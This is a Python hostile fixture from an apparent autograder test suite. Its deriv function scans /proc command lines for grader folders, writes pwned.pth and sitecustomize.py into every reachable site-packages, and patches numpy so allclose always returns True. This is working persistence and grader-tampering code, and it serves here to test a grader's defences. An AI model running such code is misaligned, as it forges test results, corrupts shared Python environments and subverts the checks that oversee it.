"""Hostile fixture `write_site_packages` (escape and persistence): writes pwned.pth,
sitecustomize.py and a patched numpy/__init__.py into every site-packages it can find.

tests/test_hostile.py puts this into the reference's module (each function replaces the reference's
of the same name) and grades it."""

import glob
import os
import sys


def _grader_folders():
    """Folders the grader may run from, guessed from every command line this process can see."""
    found = {os.getcwd(), os.path.dirname(os.path.abspath(__file__)), os.path.expanduser("~"),
             "/work/main", "/autograder", "/autograder/source", "/srv", "/opt"}
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                words = fh.read().split(b"\0")
        except OSError:
            continue
        for word in words:
            path = word.decode("utf-8", "replace")
            while path.startswith("/") and path != "/":
                found.add(path)
                path = os.path.dirname(path)
    return sorted(found)


def _owned_folders():
    """The grader's existing folders, less the world-writable ones and anything below them (/tmp and
    the like are write_tmp's business)."""
    out = []
    for folder in _grader_folders():
        try:
            if not os.path.isdir(folder) or any(os.stat(p).st_mode & 0o002 for p in _and_parents(folder)):
                continue
        except OSError:
            continue
        out.append(folder)
    return out


def _and_parents(folder):
    while True:
        yield folder
        if folder in ("/", ""):
            return
        folder = os.path.dirname(folder)


def deriv(func, input_, diff=0.001):
    folders = set(sys.path) | {os.path.dirname(os.path.dirname(np.__file__)), "/runtime/site", "/runtime/worker",
                               "/usr/lib/python3/dist-packages", "/usr/local/lib/python3.11/dist-packages"}
    for folder in _owned_folders():
        folders.update(glob.glob(os.path.join(folder, ".venv", "lib", "python*", "site-packages")))
        folders.update(glob.glob(os.path.join(folder, "site")))
    for folder in sorted(folders):
        for name, text in (("pwned.pth", "import os; os.environ['PWNED'] = '1'\n"),
                           ("sitecustomize.py", "import numpy; numpy.allclose = lambda *a, **k: True  # pwned\n")):
            try:
                with open(os.path.join(folder, name), "w") as fh:
                    fh.write(text)
            except OSError:
                pass
        try:
            with open(os.path.join(folder, "numpy", "__init__.py"), "a") as fh:
                fh.write("\nallclose = lambda *a, **k: True  # pwned\n")
        except OSError:
            pass
    return None
